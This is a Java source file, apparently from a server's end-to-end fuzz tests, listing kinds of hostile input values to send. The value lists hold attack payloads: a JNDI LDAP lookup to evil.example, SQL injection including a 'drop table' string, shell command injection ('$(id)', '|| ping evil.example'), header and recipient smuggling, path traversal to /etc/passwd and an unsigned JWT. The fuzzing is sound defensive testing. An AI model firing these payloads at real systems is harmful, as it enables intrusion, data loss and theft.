package dev.postern.e2e.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.random.RandomGenerator;

/** Kinds of values that whoever writes a server does not think of. */
enum Hostile {
  EMPTY {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text("");
    }
  },
  BLANK {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(one(random, " ", "\t", "\u00a0", "\u200b", "\u3000\u2028"));
    }
  },
  /** A few thousand characters. */
  LONG {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          usual + one(random, "a", "9", "\u00e4", "%", "\\").repeat(random.nextInt(250, 8_000)));
    }
  },
  /** As much as a body may be asked to hold. */
  HUGE {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          one(random, "A", "-", "\ud83d\udd11", "[").repeat(random.nextInt(20_000, 60_000)));
    }
  },
  CONTROL {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      String controls = one(random, "\0", "\u0007", "\u001b[31m", "\u007f", "\u0085", "\b\f\u000b");
      return text(random.nextBoolean() ? usual + controls : controls + usual);
    }
  },
  LINE_BREAK {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      String line = one(random, "\r\n", "\n", "\r", "\u2028");
      return text(usual + line + Inspection.CANARY_HEADER + ": 1" + line + "Bcc: eve@evil.example");
    }
  },
  /** Halves of characters, as no encoder writes them. */
  SURROGATE {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      byte[] half = {(byte) 0xed, (byte) (random.nextBoolean() ? 0xa0 : 0xb0), (byte) 0x80};
      return both(text(usual), half);
    }
  },
  INVALID_UTF8 {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      byte[][] broken = {
        {(byte) 0xff, (byte) 0xfe},
        {(byte) 0xc0, (byte) 0xaf},
        {(byte) 0xe2, (byte) 0x82},
        {(byte) 0x80},
        {(byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
        {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80}
      };
      return both(text(usual), broken[random.nextInt(broken.length)]);
    }
  },
  BIDI {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text("\u202e" + usual + one(random, "\u202c", "\u2066", "\u061c", "\u200f"));
    }
  },
  COMBINING {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(usual + "e" + "\u0301".repeat(random.nextInt(1, 600)));
    }
  },
  /** What another normal form makes of it is what it looks like. */
  LOOK_ALIKE {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      StringBuilder alike = new StringBuilder();
      usual.codePoints().forEach(c -> alike.appendCodePoint(c > ' ' && c < 0x7f ? c + 0xfee0 : c));
      return text(
          one(
              random,
              alike.toString(),
              usual + "\u212a",
              "\u0130" + usual,
              "\ufb01\u1e9b\u0323",
              usual + "\u0131"));
    }
  },
  ASTRAL {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          one(
                  random,
                  "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
                  "\udb40\udc01",
                  "\uffff\ufdd0",
                  "\ud834\udd1e")
              + usual);
    }
  },
  MARKUP {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          usual
              + one(
                  random,
                  Inspection.CANARY_TAG,
                  "\">" + Inspection.CANARY_TAG,
                  "'/>" + Inspection.CANARY_TAG,
                  "</script>" + Inspection.CANARY_TAG,
                  "]]>-->" + Inspection.CANARY_TAG,
                  "\" " + Inspection.CANARY_ATTRIBUTE + "=\"1",
                  "' " + Inspection.CANARY_ATTRIBUTE + "='1",
                  "` " + Inspection.CANARY_ATTRIBUTE + "=1 ",
                  "javascript:" + Inspection.CANARY_ATTRIBUTE + "()"));
    }
  },
  /** Said in a language that might be run: if it is, it comes to a number that is not in here. */
  INJECTION {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          usual
              + one(
                  random,
                  "${7919*7907}",
                  "#{7919*7907}",
                  "<#assign x=7919*7907>${x}",
                  "{{7919*7907}}",
                  "*{7919*7907}",
                  "${jndi:ldap://evil.example/a}",
                  "' or '1'='1",
                  "'; drop table PT_LINK; --",
                  "\\' union select 7919*7907 --",
                  "*)(uid=*))(|(uid=*",
                  "%s%s%n%x",
                  "$(id)",
                  "|| ping evil.example",
                  "%",
                  "_"));
    }
  },
  ELSEWHERE {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          one(
              random,
              "https://evil.example/",
              "//evil.example/",
              "/\\evil.example",
              "https:evil.example",
              usual + "@evil.example",
              usual + ".evil.example",
              "../../../../etc/passwd",
              "..;/admin",
              "file:///etc/passwd",
              "data:text/html,x",
              "%2e%2e%2f",
              "\\\\evil.example\\x"));
    }
  },
  /** A second recipient, or a second name for the first. */
  RECIPIENT {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          one(
              random,
              usual + ",eve@evil.example",
              usual + ";eve@evil.example",
              "\"" + usual + "\"@evil.example",
              "<" + usual + ">",
              "Eve <" + usual + ">",
              usual + " eve@evil.example",
              "eve@evil.example(" + usual + ")",
              "@evil.example:" + usual,
              usual + "\u0000@evil.example"));
    }
  },
  NUMBER {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          one(
              random,
              "-1",
              "0",
              "1e999",
              "NaN",
              "99999999999999999999",
              "2147483648",
              "0x10",
              "\u0661",
              "1.5",
              "-0"));
    }
  },
  /** Of another kind; told apart from text only in JSON. */
  OTHER_TYPE {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          one(
              random,
              "null",
              "true",
              "[]",
              "{}",
              "[\"" + usual.replaceAll("[\"\\\\]", "") + "\"]",
              "{\"$ne\":\"\"}",
              "1"));
    }
  },
  OTHER_TOKEN {
    @Override
    byte[] value(String usual, RandomGenerator random) {
      return text(
          one(
              random,
              "A".repeat(43),
              "A".repeat(42),
              usual.isEmpty() ? "." : usual.substring(0, usual.length() - 1),
              usual + usual,
              usual + ".",
              "eyJhbGciOiJub25lIn0.e30.",
              "00000000-0000-0000-0000-000000000000",
              "00000000-0000-0000-0000-00000000000g",
              usual.toUpperCase(java.util.Locale.ROOT)));
    }
  };

  /** A value of this kind. */
  abstract byte[] value(String usual, RandomGenerator random);

  static Hostile draw(RandomGenerator random) {
    return values()[random.nextInt(values().length)];
  }

  private static String one(RandomGenerator random, String... choices) {
    return choices[random.nextInt(choices.length)];
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] both(byte[] first, byte[] second) {
    byte[] both = java.util.Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }
}
